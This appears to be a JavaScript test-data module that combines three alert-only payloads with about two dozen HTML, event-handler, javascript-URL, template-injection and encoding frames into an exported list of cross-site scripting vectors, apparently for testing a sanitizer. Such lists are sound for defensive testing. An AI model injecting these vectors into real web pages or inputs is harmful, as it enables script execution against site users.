const payloads = ['alert(1)', 'alert`1`', 'top.alert(document.domain)']
const frames = [
  '<script>PAYLOAD</script>',
  '"><script>PAYLOAD</script>',
  '</textarea><script>PAYLOAD</script>',
  '</title><svg onload=PAYLOAD>',
  '<img src=x onerror=PAYLOAD>',
  '<img src="x" onerror="PAYLOAD">',
  '<svg/onload=PAYLOAD>',
  '<svg><animate onbegin=PAYLOAD attributeName=x dur=1s>',
  '<a href="javascript:PAYLOAD">bấm</a>',
  '<a href="java\tscript:PAYLOAD">bấm</a>',
  '<iframe srcdoc="<script>PAYLOAD</script>"></iframe>',
  '<body onload=PAYLOAD>',
  '<details open ontoggle=PAYLOAD>',
  '<math><mtext><img src=x onerror=PAYLOAD></mtext></math>',
  "';PAYLOAD//",
  '{{constructor.constructor("PAYLOAD")()}}',
  '</script><script>PAYLOAD</script>',
  '<!--<img src="--><img src=x onerror=PAYLOAD>">',
  '<style>@import "javascript:PAYLOAD"</style>',
  '<input autofocus onfocus=PAYLOAD>',
  '<video><source onerror=PAYLOAD></video>',
  '&lt;img src=x onerror=PAYLOAD&gt;',
  '\u003cimg src=x onerror=PAYLOAD\u003e',
  '<p style="background:url(javascript:PAYLOAD)">x</p>',
]

/** Texts that would run a script where a text becomes markup. */
export const xss_vectors = frames.flatMap((frame) =>
  payloads.map((payload) => frame.replaceAll('PAYLOAD', payload)),
)
